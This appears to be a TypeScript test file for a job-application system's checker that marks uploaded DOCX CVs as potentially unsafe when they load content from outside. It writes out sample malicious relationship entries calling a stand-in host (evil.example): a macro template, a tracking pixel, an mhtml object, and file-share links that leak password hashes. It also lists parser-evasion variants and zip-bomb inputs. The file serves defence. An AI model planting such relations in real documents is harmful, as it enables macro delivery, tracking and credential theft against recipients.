// An applicant's DOCX loads something from the attacker's server when a staff member opens it: a template with macros,
// a picture that reports when and where it is read, or a file share that gets a password hash. The relation is in a
// compressed part. Such a file is marked "Potentially unsafe"; a plain link is not.
import { Buffer } from 'node:buffer';
import { expect, it } from 'vitest';
import { cvTypeOf } from '#worker/submissions/files/check-cv.ts';
import { docx } from '../worker/support/cv-files.ts';

const types = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const list = (...relations: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations.join('')}</Relationships>`;
const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<Relationship Id="rId1" Type="${types}/${type}" Target="${target}" ${mode}/>`;
const template = relation('attachedTemplate', 'https://evil.example/t.dotm');

function isSuspicious(xml: string | Buffer, name = 'word/_rels/document.xml.rels', deflated = true) {
  return cvTypeOf(docx([[name, xml]], { deflated }), 'cv.docx', '')?.suspicious;
}

it('does not mark an ordinary document with links and pictures of its own', () => {
  const ordinary = list(
    relation('hyperlink', 'https://applicant.example/?a=1&amp;b=&quot;>'),
    relation('hyperlink', 'mailto:sara@applicant.example'),
    relation('image', 'media/image1.png', ''),
    relation('styles', 'styles.xml', "TargetMode = 'Internal'"),
  );
  for (const deflated of [true, false]) expect(isSuspicious(ordinary, undefined, deflated)).toBe(false);
});

it.each([
  ['a template', template],
  ['a picture', relation('image', 'https://evil.example/pixel.png')],
  ['an object', relation('oleObject', 'mhtml:https://evil.example/x.html!x')],
  ['a link to a file share', relation('hyperlink', 'file://evil.example/share')],
  ['a link to a share as Windows writes it', relation('hyperlink', '\\\\evil.example\\share')],
  ['a template behind entities', template.replace('External', '&#69;xternal')],
  ['a template in another spelling', template.replace('TargetMode="External"', "TargetMode\n=\t'EXTERNAL '")],
  ['a template with a prefix', template.replace('<Relationship', '<r:Relationship')],
  ['a template after a bracket in a value', template.replace('Id="rId1"', 'Id="a>b"')],
  ['a template that claims to be inside', template.replace('External', 'Internal')],
  ['a template without a mode', template.replace('TargetMode="External"', '')],
  ['a tag without an end', '<Relationship Target="'],
  ['an entity of its own', `<!DOCTYPE x [<!ENTITY e "External">]>${template.replace('External', '&e;')}`],
])('marks %s, compressed or not, wherever the list is', (_what, xml) => {
  expect(isSuspicious(list(xml))).toBe(true);
  // Text that looks like HTML is refused.
  expect(isSuspicious(list(xml), undefined, false)).not.toBe(false);
  expect(isSuspicious(list(xml), 'word/_rels/footer1.xml.rels')).toBe(true);
  expect(isSuspicious(list(xml), 'Word/_RELS/x.RELS')).toBe(true);
});

it('marks a list that hides from a reader of UTF-8, or is in pieces', () => {
  expect(isSuspicious(Buffer.from(`\ufeff${list(template)}`, 'utf16le'))).toBe(true);
  expect(isSuspicious(list(template).replace('UTF-8', 'UTF-7'))).toBe(true);
  expect(isSuspicious(list(), 'word/_rels/document.xml.rels/[0].piece')).toBe(true);
});

it('marks lists that are too long, too many or broken, at little cost', () => {
  const started = performance.now();
  const bomb = Buffer.alloc(40 * 1024 * 1024, ' ');
  expect(isSuspicious(bomb)).toBe(true);
  expect(isSuspicious(`${' '.repeat(1024 * 1024 + 1)}`, undefined, false)).toBe(true);
  for (const piece of ['<Relationship ', '<Relationship a="', '<Relationship a="b" ', '&#', '<'])
    isSuspicious(list(piece.repeat(1_000_000 / piece.length)));
  const many = Array.from({ length: 300 }, (_, i) => [`word/_rels/${i}.rels`, list()] as const);
  expect(cvTypeOf(docx(many), 'cv.docx', '')?.suspicious).toBe(true);
  const broken = docx([['word/_rels/document.xml.rels', 'x'.repeat(1000)]], { deflated: true });
  broken.fill(0xff, broken.indexOf('document.xml.rels') + 17, broken.indexOf('document.xml.rels') + 20);
  expect(cvTypeOf(broken, 'cv.docx', '')?.suspicious).toBe(true);
  // Making the bomb takes most of the time.
  expect(performance.now() - started).toBeLessThan(10_000);
});
